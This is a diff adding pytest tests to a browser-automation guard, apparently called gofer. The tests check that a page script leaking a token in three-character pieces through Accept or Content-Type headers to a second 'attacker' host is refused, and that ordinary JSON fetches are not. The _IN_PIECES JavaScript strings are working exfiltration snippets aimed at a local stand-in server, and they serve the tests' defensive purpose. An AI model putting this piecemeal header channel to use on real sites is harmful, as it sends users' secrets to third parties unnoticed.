@@ -4,6 +4,9 @@
   created with, so it reached the server after later ones with a session cookie the server had already replaced (a
   server that treats an old token's reuse as theft ends the session). The hook now sends the latest value the server
   set (from the context's cookie store) in place of an older one it set; a cookie a script chose goes as sent.
+- The run's data spread a few characters at a time over script-set ``Accept`` or ``Content-Type`` values (headers
+  a script may send to any host without a preflight) to another host: each value joins the site's stream, and the
+  pieces add up and are refused; ordinary ``application/json`` fetches stay quiet.
 
 Each page runs in plain Chromium (a context of the same pool without gofer's routing) and in a gofer run whose rule is
 in force. Real Chromium, pages on 127.0.0.1; only the model is scripted."""
@@ -120,3 +123,60 @@ async def test_a_burst_of_requests_carries_the_servers_latest_cookie(pool: Brows
     if [status for _sid, status in plain] != [200] * 12:
         pytest.skip(f"plain Chromium itself sent a replaced cookie (a loaded machine): {plain}")
     assert [status for _sid, status in gofer] == [200] * 12, gofer
+
+
+def _recording_headers(server: RecordingServer) -> list[str]:
+    """Make ``server`` record the ``Accept`` and ``Content-Type`` of each request to ``/in``; returns that list."""
+    base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass
+    got: list[str] = []
+
+    class Recording(base):  # type: ignore[valid-type,misc]
+        def _serve(self) -> None:
+            if urlsplit(self.path).path == "/in":
+                got.append(f"{self.headers.get('accept', '')}\n{self.headers.get('content-type', '')}")
+            super()._serve()
+
+        do_GET = do_POST = do_OPTIONS = _serve
+
+    server.server.RequestHandlerClass = Recording
+    return got
+
+
+_IN_PIECES = {
+    "Accept": ("(v.length % 3 === 0 && fetch('{a}/in?n=' + v.length, {{mode: 'no-cors', "
+               "headers: {{'Accept': v.slice(-3)}}}}).catch(() => {{}}))"),
+    "Content-Type": ("(v.length % 3 === 0 && fetch('{a}/in', {{method: 'POST', mode: 'no-cors', body: 'x', "
+                     "headers: {{'Content-Type': 'text/plain;d=' + v.slice(-3)}}}}).catch(() => {{}}))"),
+}
+
+
+@pytest.mark.parametrize("header", list(_IN_PIECES))
+async def test_a_script_cannot_spread_the_token_over_accept_or_content_type(tmp_path: Path, header: str) -> None:
+    attacker, site = RecordingServer(), RecordingServer()
+    got = _recording_headers(attacker)
+    with recording_servers(attacker, site):
+        site.pages["/page"] = _page(_IN_PIECES[header].format(a=attacker.url))
+        status, events = await _run(tmp_path, site, TOKEN)
+        await asyncio.sleep(1)
+    assert status == RunStatus.FINISHED
+    sent = "".join(g.split("\n")[0 if header == "Accept" else 1].removeprefix("text/plain;d=") for g in got)
+    assert len(got) >= 3 and TOKEN not in sent and TOKEN[:14] not in sent, (got, _refused(events), attacker.requests)
+    refused = _refused(events)
+    assert refused and "a few characters" in refused[0].reason, refused
+
+
+async def test_ordinary_accept_and_content_type_stay_quiet(tmp_path: Path) -> None:
+    attacker, site = RecordingServer(), RecordingServer()
+    got = _recording_headers(attacker)
+    with recording_servers(attacker, site):
+        site.pages["/page"] = _page(
+            f"fetch('{attacker.url}/in?q=' + encodeURIComponent(v), {{headers: {{'Accept': 'application/json'}}}})"
+            f".catch(() => {{}}); fetch('{attacker.url}/in', {{method: 'POST', body: JSON.stringify({{n: v.length}}), "
+            "headers: {'Content-Type': 'application/json', 'Accept': 'application/json'}}).catch(() => {})"
+            )
+        text = "tomatoes and basil grow well together"
+        status, events = await _run(tmp_path, site, text)
+        await asyncio.sleep(1)
+    assert status == RunStatus.FINISHED
+    assert not _refused(events) and not [e for e in events if isinstance(e, ConfirmationRequested)]
+    assert len(got) >= len(text), got
